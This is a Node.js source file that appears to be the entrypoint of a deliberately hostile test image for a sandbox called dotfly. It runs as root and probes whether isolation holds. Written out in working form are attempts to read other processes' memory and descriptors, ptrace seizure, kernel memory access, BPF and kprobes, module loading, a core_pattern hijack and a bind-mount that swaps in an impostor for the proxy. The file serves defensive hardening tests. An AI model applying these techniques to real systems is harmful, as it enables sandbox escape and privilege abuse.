// The entrypoint of a hostile image: root in the Machine, which tries what root can. Prints `attack NAME RESULT`.
import ffi from 'node:ffi'
import { execFileSync } from 'node:child_process'
import { chmodSync, closeSync, existsSync, openSync, readdirSync, readFileSync, readSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import { bpf, perf } from './calls.mjs'

const proxy = Number(
  readdirSync('/proc').find(
    (pid) => /^\d+$/.test(pid) && readFileSync(`/proc/${pid}/cmdline`, 'latin1').startsWith('dotfly'),
  ),
)
// Numbers of system calls that differ, and the name of a function of the kernel.
const { ptrace, wait4, kexec, inKernel } = {
  x64: { ptrace: 101, wait4: 61, kexec: 246, inKernel: '__x64_sys_write' },
  arm64: { ptrace: 117, wait4: 260, kexec: 104, inKernel: '__arm64_sys_write' },
}[process.arch]
const { functions: libc } = ffi.dlopen(null, {
  syscall: { arguments: ['i64', 'i64', 'i64', 'i64', 'i64', 'i64'], return: 'i64' },
})
const says = (name, result) => console.log(`attack ${name} ${result}`)
const attempt = (name, run) => {
  try {
    says(name, run())
  } catch (error) {
    says(name, `refused ${error.code ?? error.message.split('\n')[0]}`)
  }
}
const call = (number, ...args) => {
  const [a = 0n, b = 0n, c = 0n, d = 0n, e = 0n] = args.map(BigInt)
  const result = libc.syscall(BigInt(number), a, b, c, d, e)
  return result < 0n ? 'refused' : 'LEAK'
}
const open = (path, flags = 'r') => {
  const fd = openSync(path, flags)
  try {
    readSync(fd, Buffer.alloc(64))
  } finally {
    closeSync(fd)
  }
  return 'LEAK'
}
const write = (path, text) => {
  writeFileSync(path, text)
  return 'LEAK'
}
for (const pid of [1, proxy]) {
  const who = pid === 1 ? 'init' : 'proxy'
  attempt(`${who}-mem`, () => {
    closeSync(openSync(`/proc/${pid}/mem`, 'r'))
    return 'LEAK'
  })
  attempt(`${who}-maps`, () => open(`/proc/${pid}/maps`))
  attempt(`${who}-descriptor`, () => {
    let got = 'refused'
    for (const fd of readdirSync(`/proc/${pid}/fd`)) {
      try {
        closeSync(openSync(`/proc/${pid}/fd/${fd}`, 'r'))
        got = 'LEAK'
      } catch {
        // the next one
      }
    }
    return got
  })
  attempt(`${who}-ptrace`, () => {
    const seized = call(ptrace, 0x4206, pid, 0, 0)
    if (seized !== 'LEAK') return seized
    // Let go again: who is traced hears no signal before its tracer does.
    call(ptrace, 0x4207, pid, 0, 0) // PTRACE_INTERRUPT
    call(wait4, pid, 0, 0x40000000, 0) // __WALL
    call(ptrace, 17, pid, 0, 0) // PTRACE_DETACH
    return seized
  })
  attempt(`${who}-pidfd_getfd`, () => call(438, libc.syscall(434n, BigInt(pid), 0n, 0n, 0n, 0n), 3, 0))
}
attempt('kcore', () => open('/proc/kcore'))
attempt('devmem', () => open('/dev/mem'))
attempt('bpf', bpf)
attempt('perf', () => perf(proxy))
attempt('kprobe', () => {
  execFileSync('/bin/busybox', ['mount', '-t', 'tracefs', 'tracefs', '/sys/kernel/tracing'])
  return write('/sys/kernel/tracing/kprobe_events', `p:dotfly ${inKernel}`)
})
attempt('insmod', () => {
  execFileSync('/bin/busybox', ['insmod', '/virtio_balloon.ko'], { stdio: 'pipe' })
  return 'LEAK'
})
attempt('bset', () => write('/proc/sys/kernel/usermodehelper/bset', '4294967295 4294967295'))
attempt('kexec', () => call(kexec, 0, 0, 0, 0))
attempt('swapon', () => {
  execFileSync('/bin/busybox', ['dd', 'if=/dev/zero', 'of=/swap', 'bs=1048576', 'count=8'], { stdio: 'ignore' })
  execFileSync('/bin/busybox', ['mkswap', '/swap'], { stdio: 'ignore' })
  execFileSync('/bin/busybox', ['swapon', '/swap'], { stdio: 'pipe' })
  return 'LEAK'
})
attempt('remount', () => {
  // allowed: root may mount, and a helper of its own still has no power over the proxy
  writeFileSync('/proc/sys/kernel/core_pattern', `|/bin/busybox sh /helper.sh ${proxy}`)
  try {
    execFileSync('/bin/busybox', ['sh', '-c', 'kill -SEGV $$'], { stdio: 'ignore' })
  } catch {
    // it crashed, as meant
  }
  return 'done'
})
for (let i = 0; i < (existsSync('/helper.out') ? 60 : 10) && !existsSync('/helper.over'); i++)
  await new Promise((resolve) => setTimeout(resolve, 500))
attempt('helper', () => readFileSync('/helper.out', 'utf8').trim().replace(/\s+/g, ' '))
// Not an attack: whether dotfly doctor tells that truly.
const source = '/dotfly/src/init/harden.ts'
const { hardeningOf } = await import(source)
const steps = hardeningOf(1, proxy).filter(({ state }) => state === 'on')
console.log(`doctor ${steps.map(({ step }) => step).join(' ')}`)
// What is loaded in the proxy's place has the page as a descriptor; the last, for the proxy is killed.
const impostor = `import ffi from 'node:ffi'
const { functions: libc } = ffi.dlopen(null, {
  readlink: { arguments: ['string', 'buffer', 'u64'], return: 'i64' },
  open: { arguments: ['string', 'i32'], return: 'i32' },
  write: { arguments: ['i32', 'buffer', 'u64'], return: 'i64' },
})
const held = Buffer.alloc(64)
libc.write(libc.open('/impostor.out', 1), held, libc.readlink('/proc/self/fd/3', held, 64n))
`
writeFileSync('/impostor.ts', impostor, { mode: 0o644 })
writeFileSync('/impostor.out', '', { mode: 0o666 })
chmodSync('/impostor.out', 0o666)
try {
  execFileSync('/bin/busybox', ['mount', '-o', 'bind', '/impostor.ts', '/dotfly/src/proxy/main.ts'])
  process.kill(proxy, 'SIGKILL')
  says('overmount', await next())
} catch (error) {
  says('overmount', `refused ${error.message}`)
}
console.log('attacks over')

/** Who has come after the proxy: itself, which answers, or the impostor. */
async function next() {
  const guest = connect('/.fly/api')
  guest.on('error', () => undefined)
  guest.write('GET / HTTP/1.1\r\nhost: a\r\n\r\n')
  let answer = ''
  guest.on('data', (bytes) => (answer += bytes.toString('latin1')))
  for (;;) {
    const held = readFileSync('/impostor.out', 'utf8').trim()
    if (answer !== '' || held !== '') {
      guest.destroy()
      return held === '' ? `itself ${answer.slice(0, 12)}` : `LEAK ${held}`
    }
    await new Promise((resolve) => setTimeout(resolve, 100))
  }
}
